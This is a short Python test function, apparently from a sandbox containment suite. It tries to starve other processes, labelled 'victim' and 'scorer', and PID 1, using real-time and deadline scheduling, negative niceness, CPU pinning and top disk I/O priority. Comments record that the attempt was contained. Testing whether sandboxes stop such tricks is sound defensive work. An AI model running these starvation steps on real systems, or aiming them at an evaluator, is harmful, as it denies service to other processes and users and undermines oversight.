# Takes the cores: real-time and deadline scheduling, a negative niceness, all cores, first at the disk.
# A real-time thread in a loop stops everyone else on its core.
# contained: passed
# in the open: as root
def attack():
    deadline = (
        bytes([48, 0, 0, 0, 6, 0, 0, 0])
        + bytes(16)
        + b"".join(n.to_bytes(8, "little") for n in (10_000_000, 20_000_000, 20_000_000))
    )
    one = os.sched_param(1)
    others = [0, TARGET["victim"], TARGET["scorer"], 1]
    return first(
        {
            **{f"niceness {p}": lambda p=p: os.setpriority(os.PRIO_PROCESS, p, -5) for p in others},
            **{f"user's niceness {n}": lambda n=n: os.setpriority(os.PRIO_USER, 0, n) for n in (-1, 1)},
            **{f"fifo {p}": lambda p=p: os.sched_setscheduler(p, os.SCHED_FIFO, one) for p in others},
            **{f"cores of {p}": lambda p=p: os.sched_setaffinity(p, {0}) for p in others},
            "round robin": lambda: os.sched_setscheduler(0, os.SCHED_RR, one),
            "deadline": lambda: syscall("sched_setattr", 0, deadline, 0),
            "disk": lambda: syscall("ioprio_set", 1, 0, 1 << 13),
        }
    )
